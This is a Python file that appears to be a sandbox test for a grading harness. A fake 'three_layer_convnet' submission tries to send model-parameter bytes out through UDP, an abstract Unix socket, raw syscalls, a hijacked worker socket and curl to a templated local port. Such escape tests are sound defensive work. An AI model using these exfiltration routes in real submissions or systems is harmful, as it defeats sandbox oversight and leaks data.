import ctypes
import gc
import os
import socket

libc = ctypes.CDLL(None, use_errno=True)
SYS_SOCKET, SYS_IO_URING_SETUP = 41, 425
ADDRESS = ("127.0.0.1", int("@PORT@"))


def by_datagram(data):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, ADDRESS)


def by_abstract_name(data):
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(data, "\0torchgrade-attack")


def by_system_call(data):
    for number in (SYS_SOCKET, SYS_IO_URING_SETUP):
        descriptor = libc.syscall(number, socket.AF_INET, socket.SOCK_STREAM, 0)
        if descriptor < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        os.write(descriptor, data)


def by_the_channel(data):
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")._sock
    channel.connect("\0torchgrade-attack")
    channel.send(data)


def by_a_child(data):
    os.system("curl -s -d checks http://127.0.0.1:@PORT@")
    os.posix_spawn("/usr/bin/curl", ["curl", "http://127.0.0.1:@PORT@"], {})


def flatten(x):
    return x.reshape(x.shape[0], -1)


def three_layer_convnet(x, params):
    failures = []
    data = params[0].numpy().tobytes()[:1000]
    for send in (by_datagram, by_abstract_name, by_system_call, by_the_channel, by_a_child):
        try:
            send(data)
            failures.append("sent")
        except OSError as error:
            failures.append(str(error.strerror))
    raise ConnectionError("; ".join(failures))
